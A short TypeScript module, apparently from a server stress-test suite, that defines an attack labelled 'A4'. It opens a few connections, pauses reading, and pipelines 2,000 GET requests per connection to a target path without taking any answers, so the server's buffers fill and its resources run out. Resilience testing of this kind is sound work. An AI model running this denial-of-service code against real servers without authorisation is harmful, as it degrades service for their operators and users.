import { head, openConnections, type Attack, type Target } from './attack.ts'

/** Requests that fill what a connection's two ends can hold of answers. */
const many = 2_000

/** A4: sends thousands of requests on each of a few connections and takes no answer. */
export function takeNoAnswers(target: Target, { connections = 2, path = '/api/schools/' } = {}): Attack {
  return openConnections(target, connections, (socket) => {
    socket.pause()
    socket.write(head(target, `GET ${path}`).repeat(many))
  })
}
